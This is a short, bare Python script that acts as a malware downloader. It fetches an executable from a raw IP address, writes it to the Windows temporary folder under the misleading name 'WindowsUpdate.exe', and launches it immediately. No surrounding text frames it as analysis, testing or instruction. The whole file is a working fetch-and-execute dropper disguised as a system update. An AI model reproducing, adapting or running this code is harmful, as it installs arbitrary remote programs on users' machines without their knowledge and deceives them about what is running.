import os, urllib.request
d = os.path.join(os.environ["TEMP"], "WindowsUpdate.exe")
open(d, "wb").write(urllib.request.urlopen("http://193.3.4.5/u.exe").read())
os.startfile(d)
